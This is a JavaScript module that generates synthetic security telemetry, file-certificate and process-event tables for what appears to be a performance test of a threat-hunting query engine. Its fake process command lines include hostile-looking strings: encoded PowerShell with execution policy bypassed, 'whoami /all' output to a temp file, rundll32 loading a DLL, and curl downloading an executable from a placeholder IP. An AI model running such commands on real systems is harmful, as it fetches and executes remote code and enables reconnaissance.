/** 2026-10-31, in ticks. */
export const NOW = 639_290_016_000_000_000n;
const DAY = 864_000_000_000n;
export const DAYS = 30;

/** A number below `count` that looks like chance, other for each `salt`; `i` is the row's number. */
const below = (count, salt) => `cast(hash(i * 31 + ${salt}) % ${count} as BIGINT)`;

/** Few vendors sign most files. */
const vendor = `concat('Vendor ', cast(power(${below(1_000_000, 5)} / 1e6, 3) * 2900 as INTEGER), ' Inc.')`;

const column = (name, type, sql) => ({ name, type, physical: name, sql });

export const NEEDLE = "Action1 Corporation";
export const RARE = "zq7xkneedle";

/** Certificates of files: every `every`th row is signed by the needle's signer. */
export const certificates = (every) => ({
  name: "DeviceFileCertificateInfo",
  columns: [
    column("DeviceId", "string", `md5(cast(${below(5000, 1)} as VARCHAR))`),
    column("DeviceName", "string", `concat('ws-', ${below(5000, 1)}, '.corp.example.test')`),
    column("SHA1", "string", `md5(cast(${below(200_000, 2)} as VARCHAR))`),
    column("IsSigned", "bool", `${below(5, 3)} > 0`),
    column("Signer", "string", `case when i % ${every} = 7 then '${NEEDLE}' else ${vendor} end`),
    column("Issuer", "string", `concat('CN=Issuing CA ', ${below(300, 6)})`),
    column("ReportId", "long", "i % 100000"),
  ],
});

/** The same with the columns alone that the founding query reads: for how its time grows with the rows. */
export const fewColumns = (every) => {
  const { name, columns } = certificates(every);
  const read = ["DeviceId", "DeviceName", "Signer", "ReportId"];
  return { name, columns: columns.filter((of) => read.includes(of.name)) };
};

const commands = [
  "concat('powershell.exe -NoProfile -ExecutionPolicy Bypass -enc ', md5(cast(i as VARCHAR)), md5(cast(i + 1 as VARCHAR)))",
  `concat('cmd.exe /c whoami /all & echo ', ${below(1000, 21)}, ' > C:\\Users\\user', ${below(3000, 22)}, '\\AppData\\Local\\Temp\\out.txt')`,
  `concat('"C:\\Program Files\\App ', ${below(50, 23)}, '\\app.exe" --type=renderer --id=', ${below(100_000, 24)}, ' --user-data-dir="C:\\Users\\user', ${below(3000, 25)}, '\\AppData\\Local\\App"')`,
  `concat('rundll32.exe C:\\Users\\Public\\Documents\\module', ${below(500, 26)}, '.dll,Start /session:', ${below(1_000_000, 27)})`,
  `concat('curl.exe -s -o C:\\Temp\\f', ${below(90, 28)}, '.exe http://198.51.100.', ${below(250, 29)}, ':8080/download/', md5(cast(i as VARCHAR)))`,
  `concat('svchost.exe -k netsvcs -p -s Service', ${below(100, 30)})`,
];
const command = `case ${below(commands.length, 20)} ${commands.map((text, at) => `when ${at} then ${text}`).join(" ")} end`;

/** Processes: every `every`th command line has the rare term. */
export const processes = (every) => ({
  name: "DeviceProcessEvents",
  columns: [
    column("DeviceId", "string", `md5(cast(${below(5000, 1)} as VARCHAR))`),
    column("DeviceName", "string", `concat('ws-', ${below(5000, 1)}, '.corp.example.test')`),
    column(
      "ProcessCommandLine",
      "string",
      `case when i % ${every} = 11 then concat(${command}, ' --key=${RARE}') else ${command} end`,
    ),
    column("ReportId", "long", "i % 100000"),
  ],
});

export const eventTime = column("Timestamp", "datetime", "");

/** SQL of the rows of one day; `day` 0 is the oldest. */
export function daySql({ columns }, rows, day) {
  const each = Math.floor(rows / DAYS);
  const [from, to] = [day * each, day === DAYS - 1 ? rows : (day + 1) * each];
  const start = NOW - BigInt(DAYS - day) * DAY;
  const step = DAY / BigInt(Math.max(1, to - from));
  const time = `cast(${start} + (i - ${from}) * ${step} as BIGINT) as "Timestamp"`;
  const items = columns.map(({ name, sql }) => `${sql} as "${name}"`).join(", ");
  return `select ${time}, ${items} from range(${from}, ${to}) as r(i)`;
}
